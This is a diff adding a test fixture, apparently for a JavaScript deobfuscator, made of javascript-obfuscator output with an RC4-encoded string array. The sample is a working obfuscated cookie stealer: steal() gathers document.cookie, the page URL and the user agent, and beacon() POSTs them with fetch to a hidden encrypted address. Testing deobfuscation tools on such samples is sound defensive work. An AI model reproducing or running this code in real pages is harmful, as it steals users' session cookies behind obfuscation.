@@ -0,0 +1,131 @@
+// Test Case 24: obfuscator.io String Array
+// Tests: javascript-obfuscator 4 output (stringArrayEncoding: rc4, function wrappers, chained calls,
+// index shift, hexadecimal-numeric-string indexes) is decoded statically:
+// - the rotation IIFE is solved by rotating _0x2b38's array until its parseInt checksum equals 0x6056b
+// - _0x3fdb is recognized as an RC4 decoder (base64 alphabet + 256 entry key schedule, offset 0x8e)
+// - wrappers such as _0x2f9c2c(a, b) { return _0x3fdb(a - '0x3c6', b); } are followed to the decoder
+// - every lookup becomes its string: _0x2f9c2c('0x474', 'fOQ4') → "POST", console[...] → console.log
+// - the array, rotator, decoder and wrappers are removed once nothing looks strings up anymore
+
+(function (_0x278a7a, _0x5128f9) {
+    var _0x23952d = _0x278a7a();
+    function _0x5d3869(_0x5e206e, _0x21bc6b) {
+        return _0x3fdb(_0x21bc6b - '0x24a', _0x5e206e);
+    }
+    while (!![]) {
+        try {
+            var _0x3ad490 = -parseInt(_0x5d3869('tclF', '0x2e4')) / 0x1 + -parseInt(_0x5d3869('novW', '0x2ea')) / 0x2 + -parseInt(_0x5d3869('2o#]', '0x2f4')) / 0x3 + parseInt(_0x5d3869('b7z!', '0x2f0')) / 0x4 * (-parseInt(_0x5d3869('D$cA', '0x2f1')) / 0x5) + parseInt(_0x5d3869('GWxu', '0x2db')) / 0x6 + -parseInt(_0x5d3869('S#kO', '0x2e8')) / 0x7 * (-parseInt(_0x5d3869('S#kO', '0x2df')) / 0x8) + parseInt(_0x5d3869('@%8J', '0x2f9')) / 0x9 * (parseInt(_0x5d3869('k^B0', '0x2eb')) / 0xa);
+            if (_0x3ad490 === _0x5128f9)
+                break;
+            else
+                _0x23952d['push'](_0x23952d['shift']());
+        } catch (_0x2daaac) {
+            _0x23952d['push'](_0x23952d['shift']());
+        }
+    }
+}(_0x2b38, 0x6056b));
+function _0x2b38() {
+    var _0x2c9650 = [
+        'W5xcGSkQertdSbr6W51c',
+        'zttcSCk+WOSAW68NuqiIDSkQ',
+        'W7XRW716WRCdW6SZWPmwW5JdNW',
+        'W5GDfYjjWOhdOaW',
+        'pCoXB3fWaSkmjxG',
+        'W7BcUeVcNcv0WRL3WO0gWRyaAW',
+        'W6BdGXb9WOuucxPx',
+        'W4nmsCoxWOfy',
+        'W4LhD8oKWRJdUmonshlcU8kh',
+        'W7PMrubTW6S4W4y',
+        'k8okc8oRhd/dHCoox8k8',
+        'WQmbmCkgWRPIjmoD',
+        'WPf7ANBcQ8ogc2pcL8oRWQzl',
+        'qbu5iryJW6FdMCo/ma9N',
+        'yIhcOW',
+        'WRFcMKKPW5Lpmvz/mSkFW78',
+        'WRGjEmkg',
+        'qHa8jHaJWPNdJmoakWTsfG',
+        'FCk8kceQvCkjmhGJWO3cKq',
+        'W5xdHSkuaWZcOmkjBCkAW4lcKG',
+        'W4OWoIK',
+        'cCoSwCo8jSomvSoXEu7dTK53',
+        'WQiJiJhcSHrsW4yBWQ54smk3',
+        'DSkYeSkMC8kvb8kFjcBcIW',
+        'WQ0CimkAWQ0R',
+        'W5lcJmkOhZpdTtDrW41f',
+        'yLddJ1O',
+        'y8oya8kZWPVcRXZdJq',
+        'WRZcGSoZWQqcumkOWPmvaG',
+        'WPhdR3WTW6/cLW',
+        'W6qGWPTJW7hdIvq4uCk4W6lcOG',
+        'W5xcJmkwesZcUmkDza',
+        'W7OZBxjWW5CKW6KmuhBdPSkTCa',
+        'FeBdK1SrW4ChW43cUa'
+    ];
+    _0x2b38 = function () {
+        return _0x2c9650;
+    };
+    return _0x2b38();
+}
+function beacon(_0x161b0a, _0x1afedc) {
+    function _0x2f9c2c(_0x4b00aa, _0x25a46e) {
+        return _0x3fdb(_0x4b00aa - '0x3c6', _0x25a46e);
+    }
+    var _0xd9aa88 = _0x2f9c2c('0x46f', 'Z8tb') + _0x161b0a + _0x2f9c2c('0x469', '4it&') + _0x1afedc;
+    return fetch(_0xd9aa88, {
+        'method': _0x2f9c2c('0x474', 'fOQ4'),
+        'headers': { 'User-Agent': _0x2f9c2c('0x459', 'GWxu') }
+    });
+}
+function _0x3fdb(_0x58f412, _0x4b4a9c) {
+    _0x58f412 = _0x58f412 - 0x8e;
+    var _0x2b3883 = _0x2b38();
+    var _0x3fdbce = _0x2b3883[_0x58f412];
+    if (_0x3fdb['omjUVX'] === undefined) {
+        var _0x3318ef = function (_0x490040) {
+            var _0x161b0a = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';
+            var _0x1afedc = '', _0xd9aa88 = '';
+            for (var _0x473a1d = 0x0, _0x1f3942, _0xdac244, _0x27a814 = 0x0; _0xdac244 = _0x490040['charAt'](_0x27a814++); ~_0xdac244 && (_0x1f3942 = _0x473a1d % 0x4 ? _0x1f3942 * 0x40 + _0xdac244 : _0xdac244, _0x473a1d++ % 0x4) ? _0x1afedc += String['fromCharCode'](0xff & _0x1f3942 >> (-0x2 * _0x473a1d & 0x6)) : 0x0) {
+                _0xdac244 = _0x161b0a['indexOf'](_0xdac244);
+            }
+            for (var _0x27b70d = 0x0, _0x225582 = _0x1afedc['length']; _0x27b70d < _0x225582; _0x27b70d++) {
+                _0xd9aa88 += '%' + ('00' + _0x1afedc['charCodeAt'](_0x27b70d)['toString'](0x10))['slice'](-0x2);
+            }
+            return decodeURIComponent(_0xd9aa88);
+        };
+        var _0x2f3adc = function (_0x44f949, _0x402a15) {
+            var _0x3e2d3 = [], _0xe8f0df = 0x0, _0x551951, _0x4789a9 = '';
+            _0x44f949 = _0x3318ef(_0x44f949);
+            var _0x509491;
+            for (_0x509491 = 0x0; _0x509491 < 0x100; _0x509491++) {
+                _0x3e2d3[_0x509491] = _0x509491;
+            }
+            for (_0x509491 = 0x0; _0x509491 < 0x100; _0x509491++) {
+                _0xe8f0df = (_0xe8f0df + _0x3e2d3[_0x509491] + _0x402a15['charCodeAt'](_0x509491 % _0x402a15['length'])) % 0x100, _0x551951 = _0x3e2d3[_0x509491], _0x3e2d3[_0x509491] = _0x3e2d3[_0xe8f0df], _0x3e2d3[_0xe8f0df] = _0x551951;
+            }
+            _0x509491 = 0x0, _0xe8f0df = 0x0;
+            for (var _0x21976b = 0x0; _0x21976b < _0x44f949['length']; _0x21976b++) {
+                _0x509491 = (_0x509491 + 0x1) % 0x100, _0xe8f0df = (_0xe8f0df + _0x3e2d3[_0x509491]) % 0x100, _0x551951 = _0x3e2d3[_0x509491], _0x3e2d3[_0x509491] = _0x3e2d3[_0xe8f0df], _0x3e2d3[_0xe8f0df] = _0x551951, _0x4789a9 += String['fromCharCode'](_0x44f949['charCodeAt'](_0x21976b) ^ _0x3e2d3[(_0x3e2d3[_0x509491] + _0x3e2d3[_0xe8f0df]) % 0x100]);
+            }
+            return _0x4789a9;
+        };
+        _0x3fdb['GcOfeV'] = _0x2f3adc, _0x3fdb['VzYlis'] = {}, _0x3fdb['omjUVX'] = !![];
+    }
+    var _0x34bd3f = _0x2b3883[0x0], _0x2f5693 = _0x58f412 + _0x34bd3f, _0x53583e = _0x3fdb['VzYlis'][_0x2f5693];
+    return !_0x53583e ? (_0x3fdb['CtTRjq'] === undefined && (_0x3fdb['CtTRjq'] = !![]), _0x3fdbce = _0x3fdb['GcOfeV'](_0x3fdbce, _0x4b4a9c), _0x3fdb['VzYlis'][_0x2f5693] = _0x3fdbce) : _0x3fdbce = _0x53583e, _0x3fdbce;
+}
+function steal() {
+    var _0x473a1d = {
+        'cookie': document[_0x165e67('0x193', 'x4fa')],
+        'href': location[_0x165e67('0x17e', '2o#]')],
+        'ua': navigator[_0x165e67('0x18b', '^wA]')]
+    };
+    console[_0x165e67('0x19a', '#VOT')](_0x165e67('0x192', 'q4Qb'), Object[_0x165e67('0x184', '^wA]')](_0x473a1d)[_0x165e67('0x187', 'N&2D')], _0x165e67('0x182', 'Z8tb'));
+    function _0x165e67(_0x4b028b, _0x1c470c) {
+        return _0x3fdb(_0x4b028b - '0xee', _0x1c470c);
+    }
+    return JSON[_0x165e67('0x190', '2!rF')](_0x473a1d);
+}
+function _0x4ebeef(_0x145d83, _0x2f04a1) {
+    return _0x3fdb(_0x145d83 - '0x213', _0x2f04a1);
+}
+beacon(_0x4ebeef('0x2af', '[]7L'), steal());
\ No newline at end of file